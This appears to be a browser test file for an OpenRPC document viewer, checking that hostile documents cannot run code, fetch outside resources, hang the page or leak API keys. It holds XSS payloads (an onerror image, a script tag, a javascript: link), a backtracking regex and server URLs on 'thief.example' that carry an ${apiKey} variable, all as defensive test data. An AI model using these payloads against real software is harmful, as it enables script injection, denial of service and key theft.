import { describeInChromium } from './in-chromium.ts';
import { service } from './world.ts';

const documentWith = (description: string, method: object = {}, components: object = {}) =>
  JSON.stringify(
    {
      openrpc: '1.3.2',
      info: { title: 'Hostile', version: '1', description },
      methods: [{ name: 'ask', params: [], result: { name: 'r', schema: {} }, ...method }],
      components,
    },
    null,
    1,
  );

const DESCRIPTION = `
<img src=x onerror="globalThis.wasRun = true"><script>globalThis.wasRun = true</script>

[a link](javascript:globalThis.wasRun=true) and [another](https://example.com/) ![pixel](https://example.com/pixel.png)

<iframe src="https://example.com/"></iframe>
`;

describeInChromium('hostile documents', (chromium) => {
  it('run no code and fetch nothing through their descriptions', async () => {
    const page = await chromium.open();
    const outside: string[] = [];
    // The page's own requests go on while the document is opened.
    page.on('request', (request) => {
      if (!request.url().startsWith(`${service.url}/`)) outside.push(request.url());
    });
    await chromium.openFile(page, 'hostile.json', documentWith('', { description: DESCRIPTION }));
    const description = page.locator('.panel-head .markdown').first();
    // Until the renderer has loaded, the text is plain.
    await description.locator('a').first().waitFor();
    expect(await description.locator('img, script, iframe').count()).toBe(0);
    // Pictures become links that open only on a click. A link that would run code is not created.
    const links = await description
      .locator('a')
      .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
    const rel = 'noopener noreferrer nofollow';
    expect(links).toEqual([
      ['https://example.com/', rel],
      ['https://example.com/pixel.png', rel],
    ]);
    expect(await page.evaluate('globalThis.wasRun')).toBeUndefined();
    expect(outside).toEqual([]);
  });

  it('may refer to themselves without end', async () => {
    const referring = (name: string) => ({ $ref: `#/components/schemas/${name}` });
    const Node = { type: 'object', required: ['next'], properties: { next: referring('Node') } };
    const params = ['Node', 'Circle'].map((name) => ({ name, required: true, schema: referring(name) }));
    const method = { params, result: { name: 'r', schema: referring('Node') } };
    const page = await chromium.open();
    await chromium.openFile(
      page,
      'circle.json',
      documentWith('', method, { schemas: { Node, Circle: referring('Circle') } }),
    );
    await page.getByRole('option', { name: 'ask' }).click();
    await page.getByRole('button', { name: /^Send/ }).waitFor();
  });

  it('do not block the page with patterns that run for ever', async () => {
    const param = { name: 'text', required: true, schema: { type: 'string', pattern: '^(a+)+$' } };
    const page = await chromium.open();
    await chromium.openFile(
      page,
      'slow.json',
      documentWith('', { params: [param], result: { name: 'r', schema: param.schema } }),
    );
    await page.getByRole('option', { name: 'ask' }).click();
    await page.getByLabel('Address', { exact: true }).fill('http://nobody.example/');
    await page.route('http://nobody.example/', (route) =>
      route.fulfill({
        json: { jsonrpc: '2.0', id: 1, result: `${'a'.repeat(40)}!` },
        headers: { 'access-control-allow-origin': '*' },
      }),
    );
    await page.getByRole('textbox', { name: 'text', exact: true }).fill(`${'a'.repeat(40)}!`);
    await page.getByRole('button', { name: /^Send/ }).click();
    // The page responds while the worker checks.
    await page.getByRole('button', { name: 'JSON', exact: true }).click();
    await page.getByRole('button', { name: 'Form', exact: true }).click();
    // The response is shown without a verdict by the schema.
    await page.locator('.exchange .response-facts').waitFor();
    expect(await page.locator('.exchange .verdict').count()).toBe(0);
  });

  it('with servers of their own get no key of another service, and no request before the user sends one', async () => {
    const page = await chromium.open('method=eth_getBlockByNumber');
    const { origin, host } = new URL(service.httpUrl);
    await chromium.send(page);
    const outside: string[] = [];
    await page.context().route(/example/, (route) => {
      outside.push(route.request().url());
      return route.abort();
    });
    const variables = { apiKey: { default: 'API_KEY' }, host: { default: host } };
    const hostile = JSON.parse(documentWith('a document'));
    hostile.servers = [
      { name: 'mine', url: `${origin}/v3/\${apiKey}`, variables },
      { name: 'theirs', url: 'https://thief.example/${apiKey}', variables },
      { name: 'socket', url: 'wss://thief.example/${host}/${apiKey}', variables },
    ];
    await chromium.openFile(page, 'thief.json', JSON.stringify(hostile));
    await page.getByRole('option', { name: 'ask' }).click();
    const key = page.getByLabel('apiKey');
    expect(await key.inputValue()).toBe('');
    await key.fill('a-secret-key');
    await page.getByLabel('Server').selectOption({ label: 'theirs' });
    expect(await key.inputValue()).toBe('');
    await page.getByText('WebSocket', { exact: true }).click();
    expect(await page.getByLabel('Address', { exact: true }).inputValue()).not.toContain('a-secret-key');
    expect(outside).toEqual([]);
  });
});
